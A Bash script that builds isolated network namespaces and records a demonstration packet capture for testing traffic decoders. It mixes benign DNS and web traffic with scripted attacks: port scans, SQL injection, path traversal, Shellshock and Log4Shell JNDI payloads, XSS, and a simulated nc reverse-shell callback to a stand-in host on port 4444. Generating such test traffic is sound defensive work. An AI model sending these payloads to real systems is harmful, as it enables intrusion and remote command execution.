#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# tests/pcap/make-demo.sh [OUT]: make the demonstration capture (default:
# tests/pcap/demo.pcap) with real programs in network namespaces of their own.
# Needs root; installs what is missing from Debian.  Half a minute.
#
#   client  192.168.77.20  curl, dig, ping                 \  bridge in "router",
#   server  192.168.77.10  nginx, dnsmasq, a reverse shell /  captured there
#   outside 203.0.113.66   nmap, curl, hping3: the attacker
#           198.51.100.7   nginx with TLS, a listener on port 4444
#
# Names and addresses are those reserved for documentation.  Nothing leaves
# the namespaces.
set -euo pipefail
out=$(realpath -m "${1:-$(dirname "$0")/demo.pcap}")
[ "$(id -u)" -eq 0 ] || { echo "make-demo.sh: needs root" >&2; exit 1; }

packages="nginx-light dnsmasq-base bind9-dnsutils curl nmap hping3 tcpdump ethtool openssl
	iproute2 iputils-ping netcat-openbsd python3-scapy"
missing=
for p in $packages; do
	[ "$(dpkg-query -W -f '${db:Status-Status}' "$p" 2>/dev/null)" = installed ] || missing="$missing $p"
done
if [ -n "$missing" ]; then
	# No service may start: policy-rc.d answers 101 meanwhile.
	policy=/usr/sbin/policy-rc.d
	[ ! -e $policy ] || mv $policy $policy.before-make-demo
	printf '#!/bin/sh\nexit 101\n' >$policy
	chmod 755 $policy
	# shellcheck disable=SC2086
	DEBIAN_FRONTEND=noninteractive apt-get install -y -q --no-install-recommends $missing >/dev/null || true
	rm -f $policy
	[ ! -e $policy.before-make-demo ] || mv $policy.before-make-demo $policy
fi

tag=wd$$
work=$(mktemp -d)
router=$tag-router client=$tag-client server=$tag-server outside=$tag-outside
pids=()

finish()
{
	local ns

	kill "${pids[@]}" 2>/dev/null || true
	for ns in $router $client $server $outside; do
		ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null || true
		ip netns del "$ns" 2>/dev/null || true
	done
	rm -rf "$work"
}
trap finish EXIT

in_ns()
{
	local ns=$1

	shift
	ip netns exec "$ns" "$@"
}

# Checksums are made and segments cut before the wire, as on a real one.
quiet()
{
	in_ns "$1" ethtool -K "$2" tx off rx off tso off gso off gro off >/dev/null 2>&1 || true
}

# plug NS ADDRESS... : a cable from the bridge to eth0 of NS.
plug()
{
	local ns=$1 port=p${#1}$RANDOM a

	shift
	port=${port:0:14}
	ip -n "$router" link add "$port" type veth peer name eth0 netns "$ns"
	ip -n "$router" link set "$port" master br0 up
	ip -n "$ns" link set eth0 up
	for a in "$@"; do
		case $a in
		*:*) ip -n "$ns" addr add "$a" dev eth0 nodad ;;
		*) ip -n "$ns" addr add "$a" dev eth0 ;;
		esac
	done
	quiet "$router" "$port"
	quiet "$ns" eth0
}

# --- the network -----------------------------------------------------------

for ns in $router $client $server $outside; do
	ip netns add "$ns"
	ip -n "$ns" link set lo up
done
ip -n $router link add br0 type bridge mcast_snooping 0
ip -n $router link set br0 up promisc on
ip -n $router addr add 192.168.77.1/24 dev br0
plug $client 192.168.77.20/24 fd00:77::20/64
plug $server 192.168.77.10/24 fd00:77::10/64
ip -n $router link add out0 type veth peer name eth0 netns $outside
ip -n $router link set out0 up
ip -n $outside link set eth0 up
quiet $router out0
quiet $outside eth0
quiet $router br0
ip -n $router addr add 203.0.113.1/24 dev out0
ip -n $router addr add 198.51.100.1/24 dev out0
ip -n $outside addr add 203.0.113.66/24 dev eth0
ip -n $outside addr add 198.51.100.7/24 dev eth0
ip -n $client route add default via 192.168.77.1
ip -n $server route add default via 192.168.77.1
ip -n $outside route add 192.168.77.0/24 via 203.0.113.1 src 203.0.113.66
in_ns $router sysctl -qw net.ipv4.ip_forward=1

# --- the servers -----------------------------------------------------------

mkdir -p "$work/www/backup" "$work/log"
cat >"$work/www/index.html" <<'END'
<html><head><title>Example Widgets</title></head><body><h1>Widgets</h1><p>We sell widgets.</p></body></html>
END
printf 'root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n' >"$work/www/backup/passwd"
{ printf 'MZ\220\0\3\0\0\0\4\0\0\0'; head -c 52 /dev/zero
  printf 'This program cannot be run in DOS mode.\r\r\n$'; head -c 400 /dev/zero; } >"$work/www/setup.exe"
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/O=Example/CN=cdn.example.net" \
	-keyout "$work/key.pem" -out "$work/cert.pem" 2>/dev/null
chmod -R a+rX "$work"

# conf NAME SERVER-LINES: nginx's settings for one place.
conf()
{
	cat >"$work/$1.conf" <<-END
	daemon off;
	user root;
	pid $work/$1.pid;
	error_log $work/log/$1.err;
	worker_processes 1;
	events { worker_connections 64; }
	http {
		access_log off;
		client_body_temp_path $work/t1-$1; proxy_temp_path $work/t2-$1; fastcgi_temp_path $work/t3-$1;
		uwsgi_temp_path $work/t4-$1; scgi_temp_path $work/t5-$1;
		default_type application/octet-stream;
		types { text/html html; }
		server { $2 root $work/www; location = /login { return 302 /; } location = /search { return 200 "no widgets\\n"; } }
	}
	END
}
conf server "listen 80; listen [::]:80;"
conf outside "listen 198.51.100.7:80; listen 198.51.100.7:443 ssl; ssl_certificate $work/cert.pem; ssl_certificate_key $work/key.pem;"
in_ns $server nginx -c "$work/server.conf" -e "$work/log/server.err" & pids+=($!)
in_ns $outside nginx -c "$work/outside.conf" -e "$work/log/outside.err" & pids+=($!)
in_ns $server dnsmasq -k -C /dev/null --no-resolv --no-hosts --pid-file="$work/dns.pid" --listen-address=192.168.77.10 \
	--bind-interfaces --address=/www.widgets.example/192.168.77.10 --address=/cdn.example.net/198.51.100.7 \
	--address=/verify-account.top/198.51.100.7 --txt-record=info.widgets.example,"v=widgets1" \
	--address=/www.widgets.example/fd00:77::10 & pids+=($!)
in_ns $outside sh -c 'sleep 20 | nc -l 198.51.100.7 4444 >/dev/null' & pids+=($!)
sleep 1

# --- record ----------------------------------------------------------------

in_ns $router tcpdump -q -U -i br0 -w "$work/demo.pcap" not ether multicast 2>"$work/log/tcpdump" & dump=$!
pids+=($dump)
sleep 1

fetch()	# NS URL... : quiet, never a failure
{
	local ns=$1

	shift
	in_ns "$ns" curl -s -o /dev/null --max-time 5 "$@" || true
}
look_up()
{
	in_ns $client dig +tries=1 +time=2 @192.168.77.10 "$@" >/dev/null || true
}

# A day's work: names, pages, a file over TLS.
look_up www.widgets.example A
look_up www.widgets.example AAAA
look_up info.widgets.example TXT +tcp
look_up cdn.example.net A
fetch $client http://192.168.77.10/ -H 'Host: www.widgets.example'
fetch $client -g 'http://[fd00:77::10]/' -H 'Host: www.widgets.example'
fetch $client -k --resolve cdn.example.net:443:198.51.100.7 https://cdn.example.net/
in_ns $client ping -q -c 2 -i 0.2 192.168.77.10 >/dev/null || true
in_ns $client ping -q -c 1 fd00:77::10 >/dev/null || true

# Careless: a password in clear, default credentials, a program from nowhere.
fetch $client http://198.51.100.7/login -d 'user=alice&password=correct-horse'
fetch $client -u admin:admin http://192.168.77.10/
fetch $client http://198.51.100.7/setup.exe

# Lured: a name in a throw-away domain, asked for and visited.
look_up login.verify-account.top A
fetch $client -k --resolve login.verify-account.top:443:198.51.100.7 https://login.verify-account.top/

# Attacked: what is there ...
in_ns $outside nmap -n -Pn -sS --top-ports 60 -T4 --max-retries 0 192.168.77.10 >/dev/null 2>&1 || true
in_ns $outside nmap -n -Pn -sN -p 22,80,443 -T4 --max-retries 0 192.168.77.10 >/dev/null 2>&1 || true
in_ns $outside nmap -n -Pn -sX -p 22,80,443 -T4 --max-retries 0 192.168.77.10 >/dev/null 2>&1 || true
in_ns $outside hping3 -q -c 2 -i u20000 -S -F -p 80 192.168.77.10 >/dev/null 2>&1 || true
in_ns $outside ping -q -c 2 -i 0.2 -s 3000 192.168.77.10 >/dev/null || true

# ... and through the web server.
fetch $outside 'http://192.168.77.10/search?q=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20'
fetch $outside --path-as-is 'http://192.168.77.10/static/../../../../etc/passwd'
fetch $outside -A '() { :;}; /bin/bash -c "id"' http://192.168.77.10/
fetch $outside -H 'X-Api-Version: ${jndi:ldap://203.0.113.66/a}' http://192.168.77.10/
fetch $outside http://192.168.77.10/backup/passwd
fetch $outside 'http://192.168.77.10/search?q=%3Cscript%3Ealert(1)%3C/script%3E'

# It worked: the server calls back.
in_ns $server sh -c '(sleep 0.2; id; echo "/bin/sh: can'"'"'t access tty; job control turned off"; sleep 0.3) |
	nc -q 1 198.51.100.7 4444' >/dev/null 2>&1 || true

# Broken on purpose: what decoders have events for.
in_ns $client /usr/bin/python3 - <<'END'
import logging
logging.getLogger('scapy').setLevel(logging.ERROR)
from scapy.all import Ether, IP, TCP, UDP, ICMP, Raw, IPOption, sendp
to = IP(src='192.168.77.20', dst='192.168.77.10')
e = Ether(src='02:00:00:00:00:20', dst='02:00:00:00:00:10')
sendp([
    Ether(src=e.src, dst=e.dst, type=0x800) / Raw(bytes(IP(src='192.168.77.20', dst='192.168.77.10', ihl=4) / UDP(sport=9, dport=9))),
    e / to / UDP(sport=4000, dport=4001, len=4) / b'short',
    e / to / TCP(sport=4002, dport=80, dataofs=3),
    e / IP(src='192.168.77.20', dst='192.168.77.10', len=400) / UDP(sport=5, dport=6) / b'cut',
    e / to / ICMP(type=200, code=3) / b'?',
], iface='eth0', verbose=False)
END

sleep 1
kill $dump
wait $dump || true
mv "$work/demo.pcap" "$out"
chmod 644 "$out"
echo "$out: $(stat -c %s "$out") bytes"
